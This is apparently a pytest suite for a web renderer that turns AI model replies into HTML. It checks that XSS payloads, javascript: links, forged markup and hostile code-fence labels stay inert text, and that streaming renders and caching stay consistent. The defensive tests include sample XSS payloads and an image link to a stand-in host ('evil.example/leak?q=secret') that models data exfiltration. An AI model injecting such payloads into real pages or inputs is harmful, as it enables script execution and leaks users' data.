"""Model output is untrusted: what survives rendering is formatting, never script or remote loads."""

from __future__ import annotations

from typing import Any

import pytest

from web.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown, sanitize

from support.markup import read


def test_markdown_formatting_and_code_blocks_are_rendered() -> None:
    html = render_markdown("# Title\n\n**bold** and `code`\n\n```python\nprint(1 < 2)\n```\n")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<p><strong>bold</strong> and <code>code</code></p>" in html
    assert '<pre><code class="language-python"><span class="hl-nb">print</span>' in html
    assert read(html).codes == ["print(1 < 2)"]


def test_tables_and_strikethrough_are_rendered() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |\n")
    assert "<table>" in html and "<td>1</td>" in html
    assert "<s>2</s>" in html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        '<div style="background:url(//evil.example)">x</div>',
    ],
)
def test_raw_html_in_markdown_stays_text(payload: str) -> None:
    html = render_markdown(f"hello {payload}")
    assert "<script" not in html and "<img" not in html and "<svg" not in html
    assert "<iframe" not in html and "<div" not in html
    assert "&lt;" in html  # shown to the user as the text it is


def test_javascript_links_are_not_links() -> None:
    html = render_markdown("[click](javascript:alert(1)) [mail](mailto:a@b.c) [web](https://a.b/)")
    assert "javascript:" not in html.replace("[click](javascript:alert(1))", "")
    assert 'href="mailto:a@b.c"' in html
    assert 'href="https://a.b/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_images_become_links_that_load_nothing() -> None:
    html = render_markdown("![the secret](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/leak?q=secret"' in html
    assert "image: the secret" in html


def test_sanitizer_removes_scripts_handlers_styles_and_foreign_classes() -> None:
    dirty = (
        '<p onclick="x()" class="tier-badge">a</p><script>bad()</script>'
        '<code class="language-js evil">c</code><span style="color:red" class="x">s</span>'
        '<img src="https://evil.example/p.png"><a href="https://ok.example" onmouseover="x()">ok</a>'
    )
    clean = sanitize(dirty)
    assert "onclick" not in clean and "onmouseover" not in clean
    assert "script" not in clean and "bad()" not in clean
    assert "style" not in clean and "<img" not in clean
    assert 'class="tier-badge"' not in clean and "evil" not in clean
    assert '<code class="language-js">c</code>' in clean
    assert "<span>s</span>" in clean


def test_a_reply_is_rendered_once_however_often_its_page_is_viewed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from web import render

    render.clear_cache()
    calls: list[str] = []
    real = render._MARKDOWN.render

    def counting(text: str, env: dict[str, Any] | None = None) -> str:
        calls.append(text)
        return real(text, env)

    monkeypatch.setattr(render._MARKDOWN, "render", counting)
    text = "[" * 500 + "hostile" + "]" * 500
    first = render_markdown(text)
    for _ in range(3):
        assert render_markdown("".join(text)) == first  # a new str each view, as from a row
    assert len(calls) == 1
    render.clear_cache()


# --- code blocks ------------------------------------------------------------------------------
# web/highlight.py makes one block; these are about the block inside a reply: where it goes, that
# the page's own markup comes only from us, and that a reply being written renders as it will end.

SAFE_ATTRIBUTES = {
    **ALLOWED_ATTRIBUTES,
    "a": {"href", "title", "rel"},
    "div": {"class", "data-testid"},  # ours, from here on
    "span": {"class", "data-testid"},
    "button": {"type", "class", "data-testid"},
}
OUR_CLASSES = {"code-block", "code-head", "code-lang", "code-copy", "button", "small", "ghost"}


def _assert_only_safe_markup(html: str) -> None:
    for element in read(html).elements:
        assert element.tag in ALLOWED_TAGS | {"div", "button"}, element
        assert set(element.attrs) <= SAFE_ATTRIBUTES.get(element.tag, set()), element
        for name in element.classes:
            ours = name in OUR_CLASSES or name.startswith("language-")
            assert ours or (element.tag == "span" and name.startswith("hl-")), element


def test_a_fenced_block_in_a_reply_is_highlighted_with_its_label_and_copy_button() -> None:
    html = render_markdown(
        "Try this:\n\n```python\nimport os\nprint(os.sep)\n```\n\n"
        "- in a list:\n\n  ```js\n  let x = 1;\n  ```\n\n> ```sh\n> ls -l\n> ```\n\n    indented\n"
    )
    markup = read(html)
    assert markup.labels == ["python", "js", "sh", "text"]
    assert markup.codes == ["import os\nprint(os.sep)", "let x = 1;", "ls -l", "indented"]
    assert html.count('data-testid="copy-code"') == 4
    assert '<span class="hl-kn">import</span>' in html and '<span class="hl-kd">let</span>' in html
    assert "<li>" in html and "<blockquote>" in html
    _assert_only_safe_markup(html)


@pytest.mark.parametrize(
    "info",
    [
        '"><script>alert(1)</script>',
        "python onclick=x",
        '"onmouseover="alert(1)',
        "javascript:alert(1)",
        'python" class="tier-badge',
        "hl-k",
        "&lt;img src=x onerror=alert(1)&gt;",
    ],
)
def test_hostile_info_strings_are_only_text(info: str) -> None:
    for fence in ("```", "~~~"):
        html = render_markdown(f"{fence}{info}\nx = 1\n{fence}\n")
        markup = read(html)
        _assert_only_safe_markup(html)
        assert markup.codes == ["x = 1"]
        assert "<script" not in html and "<img" not in html
        (label,) = markup.labels
        assert label and label.rstrip("…") in info.replace("&lt;", "<").replace("&gt;", ">")
        for element in markup.elements:
            assert all(
                not c.startswith("language-") or c == "language-python" for c in element.classes
            )
            assert "tier-badge" not in element.classes


def test_hostile_code_stays_text_inside_its_block() -> None:
    code = (
        "</code></pre></div><script>alert(1)</script><img src=x onerror=alert(1)>"
        '<button class="code-copy" data-testid="copy-code">Copy code</button>'
    )
    for language in ("python", "html", "unknown", ""):
        html = render_markdown(f"```{language}\n{code}\n```\n")
        markup = read(html)
        assert markup.codes == [code]
        assert [e.tag for e in markup.elements].count("button") == 1  # ours
        _assert_only_safe_markup(html)


def test_a_model_cannot_produce_our_classes_our_button_or_a_placeholder() -> None:
    forged = (
        '<div class="code-block"><button type="button" class="code-copy" data-testid="copy-code">'
        'Copy code</button></div><span class="hl-k">def</span>'
    )
    nonce_like = "codeblock-0123456789abcdef0123456789abcdef-0"
    text = f"{forged}\n\n{nonce_like} and `{nonce_like}`\n\n```python\nx = 1\n```\n"
    html = render_markdown(text)
    markup = read(html)
    assert [e.tag for e in markup.elements].count("button") == 1  # the real block's
    assert sum("code-block" in e.classes for e in markup.elements) == 1
    assert html.count(nonce_like) == 2  # text, twice, never replaced
    assert '&lt;span class="hl-k"&gt;def&lt;/span&gt;' in html  # shown as the text it is
    # Defence in depth: the sanitiser for model-derived HTML keeps none of it either.
    clean = sanitize(forged)
    assert "<button" not in clean and "<div" not in clean and "hl-k" not in clean
    assert "code-block" not in clean and "data-testid" not in clean


def test_an_unclosed_fence_is_an_open_code_block() -> None:
    html = render_markdown('Here you go:\n\n```python\ndef greet(name):\n    return f"Hi {na')
    markup = read(html)
    assert markup.labels == ["python"]
    assert markup.codes == ['def greet(name):\n    return f"Hi {na']
    assert '<span class="hl-k">def</span>' in html and 'data-testid="copy-code"' in html


SAMPLE = (
    "Sure. Here is **how** it works, with `greet`:\n\n"
    "1. define it\n2. call it\n\n"
    "```python\n"
    'def greet(name: str) -> str:\n    """Say hello."""\n    return f"Hello, {name}!"\n\n'
    'print(greet("world"))\n'
    "```\n\n"
    "And in JavaScript:\n\n```javascript\nconst greet = (name) => `Hello, ${name}!`;\n```\n\n"
    "That is *all*."
)


def _stream(text: str) -> list[str]:
    """The text so far after each streamed chunk (a few characters at a time)."""
    return [text[:end] for end in range(1, len(text) + 1, 3)] + [text]


def test_a_streaming_render_is_the_final_render_of_the_same_text() -> None:
    from web import render

    render.clear_cache()
    for partial in _stream(SAMPLE):
        assert render.render_streaming(partial) == render_markdown(partial)
    render.clear_cache()


def test_a_code_block_only_grows_while_it_streams() -> None:
    """No jump: while the fence is open, each block has its final head and a prefix of its code;
    the render just before the closing fence arrives already has the final block."""
    from web import render

    final = read(render_markdown(SAMPLE))
    start = SAMPLE.index("```python\n") + len("```python\n")
    closing = SAMPLE.index("```\n", start)
    for partial in _stream(SAMPLE):
        if not start <= len(partial) <= closing:
            continue
        markup = read(render.render_streaming(partial))
        assert markup.labels[0] == final.labels[0]
        assert final.codes[0].startswith(markup.codes[0])
        assert [e for e in markup.elements if e.tag == "button"][:1] == [
            e for e in final.elements if e.tag == "button"
        ][:1]
    before_closing = render.render_streaming(SAMPLE[:closing])
    after_closing = render.render_streaming(SAMPLE[: closing + len("```\n")])
    assert before_closing == after_closing


def test_streaming_renders_leave_the_cache_of_final_replies_alone() -> None:
    from web import render

    render.clear_cache()
    final = render_markdown("a final reply")
    for partial in _stream(SAMPLE):
        render.render_streaming(partial)
    info = render._rendered.cache_info()
    assert info.currsize == 1 and info.misses == 1
    assert render_markdown("a final reply") == final
    assert render._rendered.cache_info().hits == 1
    render.clear_cache()
